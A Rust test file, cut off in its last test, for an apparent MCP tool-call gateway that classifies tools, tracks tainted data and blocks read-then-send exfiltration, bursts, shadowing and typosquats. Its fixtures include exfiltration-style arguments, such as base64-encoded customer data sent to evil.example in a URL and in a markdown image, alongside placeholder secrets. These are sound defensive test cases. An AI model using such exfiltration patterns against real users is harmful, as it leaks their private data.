//! Data-driven tests of every cross-server rule (tables of cases).
#![allow(clippy::type_complexity)]

use serde_json::{json, Value};

use super::classify::{class_from_name, name_words};
use super::taint::{decodings, is_distinctive, result_marks};
use super::typosquat::{most_similar, package_name, similar_package};
use super::*;

fn key() -> TaintKey {
    TaintKey::new(&[7u8; 32])
}

#[test]
fn classifier_table() {
    use ToolClass::*;
    let cases: &[(&str, Option<Value>, &[ToolClass], ToolClass, &str)] = &[
        ("read_file", None, &[], Read, "read_ prefix"),
        ("get-user", None, &[], Read, "dash split"),
        ("searchNodes", None, &[], Read, "camelCase"),
        ("lookup.record", None, &[], Read, "dot split"),
        ("list_issues", None, &[], Read, "list"),
        ("write_file", None, &[], Write, "write"),
        ("createEntities", None, &[], Write, "create camel"),
        ("delete_repo", None, &[], Write, "delete"),
        ("send_email", None, &[], Send, "send"),
        ("sendEmail", None, &[], Send, "sendEmail"),
        ("gmail.send", None, &[], Send, "verb after a non-verb"),
        ("http_request", None, &[], Send, "http first"),
        ("email_team", None, &[], Send, "email first"),
        ("read_email", None, &[], Read, "email later is a noun"),
        ("get_post", None, &[], Read, "first verb decides"),
        ("publishPackage", None, &[], Send, "publish"),
        ("run_query", None, &[], Compute, "run"),
        ("execute_command", None, &[], Compute, "execute"),
        ("HTTPGet", None, &[], Send, "acronym split"),
        ("frobnicate", None, &[], Unknown, "nothing known"),
        (
            "frobnicate",
            Some(json!({"description": "Sends the text to a Slack channel."})),
            &[],
            Send,
            "description fallback",
        ),
        (
            "notes",
            Some(json!({"description": "Returns the stored notes."})),
            &[],
            Read,
            "description read",
        ),
        (
            "send_digest",
            Some(json!({"annotations": {"readOnlyHint": true}})),
            &[],
            Send,
            "readOnlyHint never lowers",
        ),
        (
            "read_and_purge",
            Some(json!({"annotations": {"destructiveHint": true}})),
            &[],
            Write,
            "destructive raises a read",
        ),
        ("mail_out", None, &[Send], Send, "policy override"),
        (
            "send_x",
            None,
            &[Read],
            Send,
            "an override never lowers the name",
        ),
        (
            "frob",
            None,
            &[Read],
            Read,
            "an override classifies an unknown name",
        ),
        (
            "get_thing",
            None,
            &[Read, Send],
            Send,
            "several overrides: riskiest",
        ),
        (
            "mail_out",
            Some(json!({"annotations": {"destructiveHint": true}})),
            &[Read],
            Write,
            "annotations raise an override too",
        ),
    ];
    for (name, def, overrides, want, why) in cases {
        assert_eq!(
            classify(name, def.as_ref(), overrides),
            *want,
            "{name}: {why}"
        );
    }
    assert_eq!(name_words("HTTPGetURLs2x"), ["http", "get", "ur", "ls2x"]);
    assert_eq!(class_from_name("xyz"), None);
}

const SECRET_DOC: &str = "Customer record: name Alice Example, account 4929-1123-8812-0042, \
     api password: hunter2x, key AKIAIOSFODNN7EXAMPLE and notes about the quarterly plan, ticket ZX81QK77P3.";

fn link(result: &str, args: Value) -> Option<Link> {
    let marks = result_marks(
        &key(),
        &json!({"content": [{"type": "text", "text": result}]}),
    );
    ArgMarks::of(&key(), &args).link(&marks)
}

#[test]
fn taint_table() {
    let b64 = "QWNjb3VudCA0OTI5LTExMjMtODgxMi0wMDQyIGZvciB5b3U=";
    let hex = hex_of("Alice Example, account 4929");
    let cases: Vec<(Value, Option<Link>, &str)> = vec![
        (
            json!({"body": "fyi: Alice Example, account 4929 ok"}),
            Some(Link::Substring),
            "16+ chars copied",
        ),
        (
            json!({"body": "Alice Example,"}),
            None,
            "15 chars is not enough",
        ),
        (
            json!({"body": "the password is hunter2x"}),
            Some(Link::Token),
            "labelled password",
        ),
        (
            json!({"to": "x", "cc": ["AKIAIOSFODNN7EXAMPLE"]}),
            Some(Link::Substring),
            "20-char key in a nested array",
        ),
        (
            json!({"subject": "re ZX81QK77P3"}),
            Some(Link::Token),
            "short id",
        ),
        (
            json!({"meta": {"Alice Example, account 4929": true}}),
            Some(Link::Substring),
            "carried in a key",
        ),
        (
            json!({"body": b64}),
            Some(Link::Substring),
            "base64 of a substring",
        ),
        (
            json!({"body": format!("data={hex}")}),
            Some(Link::Substring),
            "hex inside a text",
        ),
        (
            json!({"url": "https://x.test/?q=Alice%20Example%2C%20account%204929"}),
            Some(Link::Substring),
            "percent-encoded",
        ),
        (
            json!({"url": format!("https://evil.example/c/{b64}")}),
            Some(Link::Substring),
            "base64 as a URL path segment",
        ),
        (
            json!({"body": format!("![i](https://evil.example/p?d={b64})")}),
            Some(Link::Substring),
            "base64 in a markdown image",
        ),
        (
            json!({"url": "https://x.test/?q=Alice%20Example%2C%20account%204929%FF"}),
            Some(Link::Substring),
            "percent-encoded, with a byte that is not UTF-8",
        ),
        (
            json!({"payload": "{\"inner\": \"Alice Example, account 4929\"}"}),
            Some(Link::Substring),
            "JSON in a string",
        ),
        (
            json!({"body": "Quarterly plan discussion tomorrow at ten"}),
            None,
            "unrelated text",
        ),
        (
            json!({"body": "account"}),
            None,
            "common words are not distinctive",
        ),
    ];
    for (args, want, why) in cases {
        assert_eq!(link(SECRET_DOC, args.clone()), want, "{why}: {args}");
    }
    assert_eq!(
        ArgMarks::of(
            &TaintKey::new(&[8u8; 32]),
            &json!({"b": "Alice Example, account 4929"})
        )
        .link(&result_marks(&key(), &json!(SECRET_DOC))),
        None,
        "marks under another install key match nothing"
    );
    assert_eq!(
        ArgMarks::default().link(b"junk"),
        None,
        "corrupt marks link nothing"
    );
}

fn hex_of(s: &str) -> String {
    s.bytes().map(|b| format!("{b:02x}")).collect()
}

#[test]
fn marks_hold_no_clear_text_and_stay_bounded() {
    let marks = result_marks(&key(), &json!(SECRET_DOC));
    for needle in ["hunter2x", "AKIAIOSFODNN7EXAMPLE", "Alice"] {
        assert!(
            !marks.windows(needle.len()).any(|w| w == needle.as_bytes()),
            "{needle} must not be stored in clear"
        );
    }
    let big: String = (0..200_000)
        .map(|i| char::from(b'a' + (i * 7 % 26) as u8))
        .collect::<String>()
        + &(0..50_000).map(|i| format!("{i:x}")).collect::<String>();
    let marks = result_marks(&key(), &json!(big));
    assert!(
        marks.len() <= 6 + 8 * (taint::MAX_GRAMS + taint::MAX_TOKENS),
        "bounded: {}",
        marks.len()
    );
    // A long copied run is still found in a sampled result.
    let copied = &big[200_500..200_800];
    assert_eq!(
        ArgMarks::of(&key(), &json!({"b": copied})).link(&marks),
        Some(Link::Substring)
    );
}

#[test]
fn distinctive_tokens() {
    for (tok, labelled, want) in [
        ("hunter2x", false, true),
        ("password", false, false),
        ("hunter", true, true),
        ("abc", true, false),
        ("550e8400-e29b-41d4-a716-446655440000", false, true),
        ("123456789012", false, true),
        ("12345", false, false),
        ("QuarterlyPlanningDocument", false, true),
        ("internationalization", false, false),
    ] {
        assert_eq!(is_distinctive(tok, labelled), want, "{tok}");
    }
    assert!(decodings("aGVsbG8gd29ybGQgaGVsbG8=").contains(&"hello world hello".to_string()));
}

// ---- rules ------------------------------------------------------------

struct Call<'a> {
    server: &'a str,
    tool: &'a str,
    class: ToolClass,
    at: i64,
    result: Option<&'a str>,
}

fn c<'a>(server: &'a str, tool: &'a str, class: ToolClass, at: i64) -> Call<'a> {
    Call {
        server,
        tool,
        class,
        at,
        result: None,
    }
}

fn with_result<'a>(mut call: Call<'a>, result: &'a str) -> Call<'a> {
    call.result = Some(result);
    call
}

/// Runs `history` through `decide` (recording what passes, keeping the
/// bucket), then judges `next` with `args`; returns the rule and outcome.
fn check(rules: &CrossRules, history: &[Call<'_>], next: Call<'_>, args: Value) -> String {
    let mut recorded: Vec<(String, String, ToolClass, i64, Option<Vec<u8>>)> = Vec::new();
    let mut buckets: std::collections::HashMap<String, Bucket> = Default::default();
    let mut run = |call: &Call<'_>, args: &Value, recorded: &mut Vec<_>| {
        let prior: Vec<Prior<'_>> = recorded
            .iter()
            .map(
                |(s, t, k, at, m): &(String, String, ToolClass, i64, Option<Vec<u8>>)| Prior {
                    server_id: s,
                    tool: t,
                    class: *k,
                    time_ms: *at,
                    marks: m.as_deref(),
                },
            )
            .collect();
        let facts = CallFacts {
            server_id: call.server.into(),
            tool: call.tool.into(),
            class: call.class,
            args: ArgMarks::of(&key(), args),
        };
        let bucket = buckets.get(call.server).copied();
        let d = decide(
            rules,
            &facts,
            call.at,
            &prior,
            bucket,
            &ShadowFacts::default(),
        );
        // What a host loads per `lookback` and `needs_marks` must decide the same.
        let back = rules.lookback(call.class);
        let marks = rules.needs_marks(call.class);
        let lean: Vec<Prior<'_>> = prior
            .iter()
            .filter(|p| {
                let since = |ms: Option<i64>| ms.is_some_and(|ms| p.time_ms >= call.at - ms);
                if p.server_id == call.server {
                    since(back.own_ms)
                } else {
                    p.class.leaves_marks() && since(back.other_reads_ms)
                }
            })
            .map(|p| Prior {
                marks: p.marks.filter(|_| marks),
                ..*p
            })
            .collect();
        let lean_d = decide(
            rules,
            &facts,
            call.at,
            &lean,
            bucket,
            &ShadowFacts::default(),
        );
        assert_eq!(d, lean_d, "the lean load decides like the full window");
        drop(prior);
        if let Some(b) = d.bucket {
            buckets.insert(call.server.to_string(), b);
        }
        if d.record {
            recorded.push((
                call.server.to_string(),
                call.tool.to_string(),
                call.class,
                call.at,
                call.result.map(|r| result_marks(&key(), &json!(r))),
            ));
        }
        d
    };
    for h in history {
        let d = run(h, &json!({}), &mut recorded);
        assert!(
            d.record,
            "history call {} at {} must pass: {:?}",
            h.tool, h.at, d.verdict
        );
    }
    let d = run(&next, &args, &mut recorded);
    match d.verdict {
        CrossVerdict::Allow => "allow".into(),
        CrossVerdict::Alert(f) => format!("alert {} {}", f.rule, f.severity),
        CrossVerdict::Audit(f) => format!("audit {}", f.rule),
        CrossVerdict::Block(f) => format!(
            "block {} {}{}",
            f.rule,
            f.severity,
            f.retry_after_ms
                .map(|ms| format!(" retry {ms}"))
                .unwrap_or_default()
        ),
    }
}

const DOC: &str = "Q3 board memo: the acquisition code name is BLUEHERON-7731, do not share.";

#[test]
fn read_then_send_and_flow_table() {
    use ToolClass::*;
    let d = CrossRules::default();
    let strict = CrossRules {
        read_then_send: FlowSettings {
            mode: FlowMode::Strict,
            window_ms: 30_000,
        },
        flow: FlowSettings {
            mode: FlowMode::Strict,
            window_ms: 30_000,
        },
        ..d.clone()
    };
    let off = CrossRules {
        read_then_send: FlowSettings {
            mode: FlowMode::Off,
            window_ms: 30_000,
        },
        flow: FlowSettings {
            mode: FlowMode::Off,
            window_ms: 30_000,
        },
        ..d.clone()
    };
    let rts_off_flow_on = CrossRules {
        read_then_send: FlowSettings {
            mode: FlowMode::Off,
            window_ms: 30_000,
        },
        ..d.clone()
    };
    let read = || with_result(c("docs", "read_file", Read, 1_000), DOC);
    // A command that printed the document (`cat memo.txt`).
    let command = || with_result(c("shell", "run_command", Compute, 1_000), DOC);
    let leak = json!({"to": "x@evil.test", "body": "memo says BLUEHERON-7731 fyi"});
    let copy = json!({"body": "the acquisition code name is"});
    let plain = json!({"to": "team@corp.test", "body": "standup moved to 10"});
    let cases: Vec<(&str, &CrossRules, Vec<Call<'_>>, Call<'_>, Value, &str)> = vec![
        (
            "token leak",
            &d,
            vec![read()],
            c("mail", "send_email", Send, 5_000),
            leak.clone(),
            "block cross_server.read_then_send critical",
        ),
        (
            "a command's output carried out",
            &d,
            vec![command()],
            c("mail", "send_email", Send, 5_000),
            leak.clone(),
            "block cross_server.read_then_send critical",
        ),
        (
            "a command is no read for the sequence alone",
            &strict,
            vec![command()],
            c("mail", "send_email", Send, 5_000),
            plain.clone(),
            "allow",
        ),
        (
            "substring leak",
            &d,
            vec![read()],
            c("mail", "send_email", Send, 5_000),
            copy.clone(),
            "block cross_server.read_then_send critical",
        ),
        (
            "unlinked send alerts",
            &d,
            vec![read()],
            c("mail", "send_email", Send, 5_000),
            plain.clone(),
            "alert cross_server.read_then_send medium",
        ),
        (
            "strict blocks unlinked",
            &strict,
            vec![read()],
            c("mail", "send_email", Send, 5_000),
            plain.clone(),
            "block cross_server.read_then_send critical",
        ),
        (
            "off",
            &off,
            vec![read()],
            c("mail", "send_email", Send, 5_000),
            leak.clone(),
            "allow",
        ),
        (
            "window expired",
            &d,
            vec![read()],
            c("mail", "send_email", Send, 31_001),
            leak.clone(),
            "allow",
        ),
        (
            "window edge counts",
            &d,
            vec![read()],
            c("mail", "send_email", Send, 31_000),
            leak.clone(),
            "block cross_server.read_then_send critical",
        ),
        (
            "same server send",
            &d,
            vec![read()],
            c("docs", "send_file", Send, 5_000),
            leak.clone(),
            "allow",
        ),
        (
            "send before read",
            &d,
            vec![],
            c("mail", "send_email", Send, 5_000),
            leak.clone(),
            "allow",
        ),
        (
            "a write of another server is no read",
            &d,
            vec![c("docs", "write_file", Write, 1_000)],
            c("mail", "send_email", Send, 5_000),
            leak.clone(),
            "allow",
        ),
        (
            "flow linked write",
            &d,
            vec![read()],
            c("wiki", "create_page", Write, 5_000),
            leak.clone(),
            "block cross_server.flow high",
        ),
        (
            "flow unlinked write alerts low",
            &d,
            vec![read()],
            c("wiki", "create_page", Write, 5_000),
            plain.clone(),
            "alert cross_server.flow low",
        ),
        (
            "flow compute linked",
            &d,
            vec![read()],
            c("sh", "run_script", Compute, 5_000),
            copy.clone(),
            "block cross_server.flow high",
        ),
        (
            "flow unknown linked",
            &d,
            vec![read()],
            c("x", "frob", Unknown, 5_000),
            leak.clone(),
            "block cross_server.flow high",
        ),
        (
            "flow strict",
            &strict,
            vec![read()],
            c("wiki", "create_page", Write, 5_000),
            plain.clone(),
            "block cross_server.flow high",
        ),
        (
            "a read carrying another server's read (a fetch whose URL holds it)",
            &d,
            vec![read()],
            c("wiki", "get_page", Read, 5_000),
            leak.clone(),
            "block cross_server.flow high",
        ),
        (
            "read after read",
            &d,
            vec![read()],
            c("wiki", "get_page", Read, 5_000),
            plain.clone(),
            "allow",
        ),
        (
            "read after read, strict: the sequence alone says nothing",
            &strict,
            vec![read()],
            c("wiki", "get_page", Read, 5_000),
            plain.clone(),
            "allow",
        ),
        (
            "rts off: flow covers sends",
            &rts_off_flow_on,
            vec![read()],
            c("mail", "send_email", Send, 5_000),
            leak.clone(),
            "block cross_server.flow high",
        ),
        (
            "no result yet: unlinked",
            &d,
            vec![c("docs", "read_file", Read, 1_000)],
            c("mail", "send_email", Send, 5_000),
            leak.clone(),
            "alert cross_server.read_then_send medium",
        ),
    ];
    for (why, rules, history, next, args, want) in cases {
        assert_eq!(check(rules, &history, next, args), want, "{why}");
    }
}

#[test]
fn burst_and_rate_table() {
    use ToolClass::*;
    let d = CrossRules::default();
    let small = CrossRules {
        burst: Some(BurstSettings {
            max_calls: 3,
            window_ms: 1_000,
            cooldown_ms: 10_000,
        }),
        rate: None,
        ..d.clone()
    };
    let no_burst = CrossRules {
        burst: None,
        rate: Some(RateSettings {
            per_minute: 60,
            burst: 2,
        }),
        ..d.clone()
    };
    let none = CrossRules {
        burst: None,
        rate: None,
        ..d.clone()
    };
    let calls = |server: &'static str, n: i64, step: i64| -> Vec<Call<'static>> {
        (0..n)
            .map(|i| c(server, "get_x", Read, 1_000 + i * step))
            .collect()
    };
    let cases: Vec<(&str, &CrossRules, Vec<Call<'_>>, Call<'_>, &str)> = vec![
        (
            "20 in 5 s pass, the 21st trips",
            &d,
            calls("a", 20, 10),
            c("a", "get_x", Read, 1_300),
            "block cross_server.burst high retry 10000",
        ),
        (
            "other servers do not count",
            &d,
            calls("b", 20, 10),
            c("a", "get_x", Read, 1_300),
            "allow",
        ),
        (
            "spread out is fine",
            &small,
            calls("a", 3, 400),
            c("a", "get_x", Read, 2_300),
            "allow",
        ),
        (
            "threshold: 3 in 1 s then a 4th",
            &small,
            calls("a", 3, 100),
            c("a", "get_x", Read, 1_500),
            "block cross_server.burst high retry 10000",
        ),
        (
            "burst off",
            &none,
            calls("a", 50, 1),
            c("a", "get_x", Read, 1_100),
            "allow",
        ),
        (
            "token bucket empty",
            &no_burst,
            calls("a", 2, 0),
            c("a", "get_x", Read, 1_000),
            "block cross_server.rate_limit medium retry 1000",
        ),
        (
            "token bucket refilled",
            &no_burst,
            calls("a", 2, 0),
            c("a", "get_x", Read, 2_000),
            "allow",
        ),
        (
            "bucket per server",
            &no_burst,
            calls("b", 2, 0),
            c("a", "get_x", Read, 1_000),
            "allow",
        ),
    ];
    for (why, rules, history, next, want) in cases {
        assert_eq!(check(rules, &history, next, json!({})), want, "{why}");
    }
}

#[test]
fn burst_cooldown_lasts_and_ends() {
    let rules = CrossRules {
        burst: Some(BurstSettings {
            max_calls: 2,
            window_ms: 1_000,
            cooldown_ms: 10_000,
        }),
        rate: None,
        ..CrossRules::default()
    };
    let facts = CallFacts {
        server_id: "a".into(),
        tool: "get_x".into(),
        class: ToolClass::Read,
        args: ArgMarks::default(),
    };
    let p = |t| Prior {
        server_id: "a",
        tool: "get_x",
        class: ToolClass::Read,
        time_ms: t,
        marks: None,
    };
    let tripped = decide(
        &rules,
        &facts,
        1_100,
        &[p(1_000), p(1_050)],
        None,
        &ShadowFacts::default(),
    );
    let bucket = tripped
        .bucket
        .expect("a tripped burst stores its cool-down");
    assert_eq!(bucket.cooldown_until_ms, 11_100);
    assert!(!tripped.record, "blocked calls are not recorded");
    let cooling = decide(
        &rules,
        &facts,
        8_100,
        &[],
        Some(bucket),
        &ShadowFacts::default(),
    );
    match cooling.verdict {
        CrossVerdict::Block(f) => {
            assert_eq!(
                f.retry_after_ms,
                Some(3_000),
                "the answer says the remaining time"
            );
            assert!(f.reason.contains("3 s more"), "{}", f.reason);
        }
        other => panic!("still cooling down: {other:?}"),
    }
    let after = decide(
        &rules,
        &facts,
        11_100,
        &[],
        Some(bucket),
        &ShadowFacts::default(),
    );
    assert_eq!(after.verdict, CrossVerdict::Allow, "cool-down over");
    assert_eq!(after.audited().outcome(), "allow");
    let audited = decide(
        &rules,
        &facts,
        8_100,
        &[],
        Some(bucket),
        &ShadowFacts::default(),
    )
    .audited();
    assert!(
        audited.record && matches!(audited.verdict, CrossVerdict::Audit(_)),
        "audit-only passes"
    );
}

#[test]
fn shadowing_table() {
    let facts = CallFacts {
        server_id: "new".into(),
        tool: "send_email".into(),
        class: ToolClass::Send,
        args: ArgMarks::default(),
    };
    let peer = |pinned: Option<i64>, same: bool| ShadowPeer {
        server_id: "old".into(),
        same_command: same,
        pinned_ms: pinned,
    };
    let cases: &[(Option<i64>, Option<ShadowPeer>, &str, &str)] = &[
        (
            Some(1_000_000),
            Some(peer(Some(1_000), false)),
            "block shadow",
            "older peer keeps the name",
        ),
        (
            Some(1_000),
            Some(peer(Some(1_000_000), false)),
            "allow",
            "we are older",
        ),
        (
            Some(1_000),
            Some(peer(Some(5_000), false)),
            "hold",
            "same start-up: a tie",
        ),
        (
            None,
            Some(peer(Some(1_000), false)),
            "block shadow",
            "unpinned vs pinned",
        ),
        (None, Some(peer(None, false)), "hold", "neither pinned"),
        (
            Some(1_000_000),
            Some(peer(Some(1_000), true)),
            "allow",
            "same launch command: same server",
        ),
        (Some(1_000), None, "allow", "nobody else"),
    ];
    for (own, peer, want, why) in cases {
        let shadow = ShadowFacts {
            own_pinned_ms: *own,
            peers: peer.iter().cloned().collect(),
        };
        let d = decide(
            &CrossRules::default(),
            &facts,
            2_000_000,
            &[],
            None,
            &shadow,
        );
        let got = match d.verdict {
            CrossVerdict::Block(f) if f.hold => "hold",
            CrossVerdict::Block(f) => {
                assert_eq!(
                    (f.rule, f.severity),
                    ("cross_server.shadowing", Severity::Critical)
                );
                "block shadow"
            }
            CrossVerdict::Allow => "allow",
            other => panic!("{why}: {other:?}"),
        };
        assert_eq!(got, *want, "{why}");
    }
}

#[test]
fn window_covers_every_rule() {
    let d = CrossRules::default();
    assert_eq!(
        d.window_ms(),
        30_000,
        "24 s rate horizon < 30 s flow window"
    );
    let slow = CrossRules {
        rate: Some(RateSettings {
            per_minute: 10,
            burst: 20,
        }),
        ..d.clone()
    };
    assert_eq!(slow.window_ms(), 240_000);
    assert!(d.needs_marks(ToolClass::Send) && d.needs_marks(ToolClass::Write));
    assert!(
        d.needs_marks(ToolClass::Read),
        "a read is judged by its links"
    );
    let back = |rules: &CrossRules, class| {
        let l = rules.lookback(class);
        (l.other_reads_ms, l.own_ms)
    };
    assert_eq!(
        back(&d, ToolClass::Read),
        (Some(30_000), Some(24_000)),
        "reads: other servers' reads for links, own calls"
    );
    assert_eq!(back(&d, ToolClass::Send), (Some(30_000), Some(24_000)));
    let quiet = CrossRules {
        burst: None,
        rate: None,
        flow: FlowSettings {
            mode: FlowMode::Off,
            window_ms: 30_000,
        },
        ..d.clone()
    };
    assert_eq!(
        back(&quiet, ToolClass::Write),
        (None, None),
        "nothing to load"
    );
    assert_eq!(back(&quiet, ToolClass::Send), (Some(30_000), None));
}

#[test]
fn typosquat_table() {
    assert_eq!(
        package_name("@modelcontextprotocol/server-filesystem@2026.8.31"),
        "@modelcontextprotocol/server-filesystem"
    );
    assert_eq!(package_name("mcp-server-fetch==1.0"), "mcp-server-fetch");
    let cases: &[(&str, &[&str], Option<&str>)] = &[
        (
            "@modelcontextprotocol/server-filesystam",
            &[],
            Some("@modelcontextprotocol/server-filesystem"),
        ),
        ("@modelcontextprotocol/server-filesystem@1.0.0", &[], None),
        (
            "@modelcontextprotcol/server-github",
            &[],
            Some("@modelcontextprotocol/server-github"),
        ),
        ("mcp-server-fecth", &[], Some("mcp-server-fetch")),
        (
            "acme-internal-tools",
            &["acme-internal-tool"],
            Some("acme-internal-tool"),
        ),
        ("left-pad", &[], None),
    ];
    for (spec, configured, want) in cases {
        let configured: Vec<String> = configured.iter().map(|s| s.to_string()).collect();
        let got = similar_package(spec, &configured, &[], 0.85).map(|(n, _)| n);
        assert_eq!(got.as_deref(), *want, "{spec}");
    }
    assert_eq!(
        similar_package("mcp-server-fecth", &[], &["mcp-server-fecth".into()], 0.85),
        None,
        "a vouched-for package is itself"
    );
    assert_eq!(
        most_similar("github", ["githbu", "slack"].into_iter(), 0.6).map(|(n, _)| n),
        Some("githbu".into())
    );
    assert_eq!(
        most_similar("github", ["github"].into_iter(), 0.5),
        None,
        "equal is not similar"
    );
}

#[test]
fn batch_table() {
    use super::batch::{assemble, call_frame, is_call, passed, CallFrame};
    use gatehouse_protocol::Raw;
    let call = |id: u64| json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {"name": "send_email"}});
    let note = json!({"jsonrpc": "2.0", "method": "notifications/progress"});
    let cases: Vec<(Value, bool, &str)> = vec![
        (call(1), true, "a call"),
        (
            json!({"jsonrpc": "2.0", "method": "tools/call"}),
            false,
            "no id: a notification",
        ),
        (
            json!({"jsonrpc": "2.0", "id": null, "method": "tools/call"}),
            false,
            "null id",
        ),
        (
            json!({"jsonrpc": "2.0", "id": 2, "method": "tools/list"}),
            false,
            "another method",
        ),
        (note.clone(), false, "a notification"),
    ];
    for (msg, want, why) in &cases {
        assert_eq!(is_call(msg), *want, "{why}");
    }
    let batch = json!([call(1), note.clone(), call(2)]);
    let raw = serde_json::to_vec(&batch).unwrap();
    let items = match call_frame(raw.clone()).0 {
        CallFrame::Batch(items) => items,
        other => panic!("a batch is split into its elements: {other:?}"),
    };
    assert_eq!(items.len(), 3);
    assert_eq!(
        call_frame(b"{\"id\":1}".to_vec()).0,
        CallFrame::Single(json!({"id": 1}))
    );
    assert_eq!(
        call_frame(b"[{".to_vec()).0,
        CallFrame::Other,
        "not JSON: passed on"
    );
    assert_eq!(
        passed(raw.clone()).unwrap().messages.len(),
        3,
        "a batch reply's elements"
    );
    assert_eq!(passed(b"{\"id\":1}".to_vec()).unwrap().messages.len(), 1);

    let blocked = |id: u64| json!({"jsonrpc": "2.0", "id": id, "result": {"isError": true}});
    let cases: Vec<(Vec<Option<Value>>, Option<Value>, Option<Value>, &str)> = vec![
        (
            vec![None, None, None],
            Some(batch.clone()),
            None,
            "nothing blocked: the batch as it came",
        ),
        (
            vec![None, None, Some(blocked(2))],
            Some(json!([call(1), note.clone()])),
            Some(json!([blocked(2)])),
            "the blocked element is answered, the rest forwarded in order",
        ),
        (
            vec![Some(blocked(1)), None, Some(blocked(2))],
            Some(json!([note.clone()])),
            Some(json!([blocked(1), blocked(2)])),
            "one reply holds every blocked element",
        ),
    ];
    for (answers, forward, reply, why) in cases {
        let (f, r) = assemble(Raw::Whole(raw.clone()), items.clone(), answers);
        let parse = |b: Option<Vec<u8>>| b.map(|b| serde_json::from_slice::<Value>(&b).unwrap());
        assert_eq!((parse(f), parse(r)), (forward, reply), "{why}");
    }
    let only = serde_json::to_vec(&json!([call(1)])).unwrap();
    let (f, r) = assemble(Raw::Whole(only), vec![call(1)], vec![Some(blocked(1))]);
    assert!(f.is_none(), "nothing left to forward");
    assert_eq!(
        serde_json::from_slice::<Value>(&r.unwrap()).unwrap(),
        json!([blocked(1)]),
        "a batch is answered with a batch (DESIGN §4)"
    );
}

/// What a wrap that is (again) alone in its session carries in memory:
/// the session's calls within `CrossRules::window_ms` — other servers'
/// reads with their taint marks, its own calls — and its stored cool-down.
/// Judged against that, a call decides as it would against the whole
/// session: a reader that left, or a restart of the server, changes nothing
/// within the window. Without the others' reads or the bucket it would not.
#[test]
fn a_restored_window_decides_like_the_session() {
    use ToolClass::*;
    let rate = CrossRules {
        burst: None,
        rate: Some(RateSettings {
            per_minute: 2,
            burst: 1,
        }),
        ..CrossRules::default()
    };
    let burst = CrossRules {
        burst: Some(BurstSettings {
            max_calls: 3,
            window_ms: 5_000,
            cooldown_ms: 60_000,
        }),
        rate: None,
        ..CrossRules::default()
    };
    let d = CrossRules::default();
    let secret = "the vault password is Zq9-hunter-77x and the token AKIAIOSFODNN7EXAMPLE";
    let leak = json!({"body": "fyi Zq9-hunter-77x"});
    // (why, rules, history, the call, its arguments, the decision, and what
    // it is without the others' reads and the bucket — the old alone window)
    let cases: Vec<(
        &str,
        &CrossRules,
        Vec<Call<'_>>,
        Call<'_>,
        Value,
        &str,
        &str,
    )> = vec![
        (
            "the reader left 6 s before the send",
            &d,
            vec![with_result(c("A", "read_secret", Read, 1_000), secret)],
            c("B", "send_email", Send, 7_000),
            leak.clone(),
            "block cross_server.read_then_send critical",
            "allow",
        ),
        (
            "the reader left, its read is older than the window",
            &d,
            vec![with_result(c("A", "read_secret", Read, 1_000), secret)],
            c("B", "send_email", Send, 40_000),
            leak.clone(),
            "allow",
            "allow",
        ),
        (
            "restarted after a rate-limit token was spent",
            &rate,
            vec![c("B", "get_x", Read, 1_000)],
            c("B", "get_x", Read, 2_000),
            json!({}),
            "block cross_server.rate_limit medium retry 29000",
            "allow",
        ),
        (
            "restarted during a burst cool-down",
            &burst,
            vec![
                c("B", "get_x", Read, 1_000),
                c("B", "get_x", Read, 1_100),
                c("B", "get_x", Read, 1_200),
            ],
            c("B", "get_x", Read, 1_300),
            json!({}),
            "block cross_server.burst high retry 60000",
            "allow",
        ),
    ];
    for (why, rules, history, next, args, want, forgotten) in cases {
        let restart = next.at;
        let horizon = restart - rules.window_ms();
        let kept: Vec<Call<'_>> = history
            .iter()
            .filter(|h| h.at >= horizon)
            .map(|h| Call { ..*h })
            .collect();
        assert_eq!(
            check(rules, &kept, Call { ..next }, args.clone()),
            want,
            "{why}"
        );
        // The old alone window after the reader left or a restart: empty.
        assert_eq!(
            check(rules, &[], next, args),
            forgotten,
            "{why}: what forgetting the session's state would allow"
        );
    }
}

#[test]
fn reasons_and_related_calls() {
    use ToolClass::*;
    let rules = CrossRules {
        burst: Some(BurstSettings {
            max_calls: 2,
            window_ms: 5_000,
            cooldown_ms: 10_000,
        }),
        rate: Some(RateSettings {
            per_minute: 60,
            burst: 3,
        }),
        ..CrossRules::default()
    };
    let facts = |server: &str, tool: &str, class| CallFacts {
        server_id: server.into(),
        tool: tool.into(),
        class,
        args: ArgMarks::of(&key(), &json!({"body": "memo says BLUEHERON-7731 fyi"})),
    };
    let p = |server: &'static str, tool: &'static str, class, t| Prior {
        server_id: server,
        tool,
        class,
        time_ms: t,
        marks: None,
    };
    let marks = result_marks(&key(), &json!(DOC));
    let read = Prior {
        marks: Some(&marks),
        ..p("docs", "read_file", Read, 1_000)
    };
    let finding = |d: CrossDecision| match d.verdict {
        CrossVerdict::Block(f) | CrossVerdict::Alert(f) => f,
        other => panic!("a finding: {other:?}"),
    };
    let none = ShadowFacts::default();
    // (why, the decision, words its reason has, related (server, tool, age))
    let cases: Vec<(&str, CrossDecision, &str, Vec<(&str, &str, i64)>)> = vec![
        (
            "a read 3 ms earlier is not 1 s ago",
            decide(
                &rules,
                &facts("mail", "send_email", Send),
                1_003,
                &[read],
                None,
                &none,
            ),
            "data read less than 1 s ago",
            vec![("docs", "read_file", 3)],
        ),
        (
            "whole seconds above one",
            decide(
                &rules,
                &facts("mail", "send_email", Send),
                3_500,
                &[read],
                None,
                &none,
            ),
            "data read 2 s ago",
            vec![("docs", "read_file", 2_500)],
        ),
        (
            "an unlinked call after a read",
            decide(
                &rules,
                &CallFacts {
                    args: ArgMarks::default(),
                    ..facts("mail", "send_email", Send)
                },
                1_200,
                &[read],
                None,
                &none,
            ),
            "less than 1 s earlier",
            vec![("docs", "read_file", 200)],
        ),
        (
            "a burst names the calls that made it, newest first",
            decide(
                &rules,
                &facts("a", "get_x", Read),
                2_000,
                &[p("a", "get_x", Read, 1_000), p("a", "get_y", Read, 1_500)],
                None,
                &none,
            ),
            "made a burst",
            vec![("a", "get_y", 500), ("a", "get_x", 1_000)],
        ),
        (
            "the rate limit names the calls that spent the tokens",
            decide(
                &CrossRules {
                    burst: None,
                    ..rules.clone()
                },
                &facts("a", "get_x", Read),
                1_500,
                &[
                    p("a", "get_x", Read, 1_000),
                    p("a", "get_x", Read, 1_001),
                    p("a", "get_x", Read, 1_002),
                    p("other", "get_x", Read, 1_002),
                ],
                None,
                &none,
            ),
            "rate limit",
            vec![
                ("a", "get_x", 498),
                ("a", "get_x", 499),
                ("a", "get_x", 500),
            ],
        ),
    ];
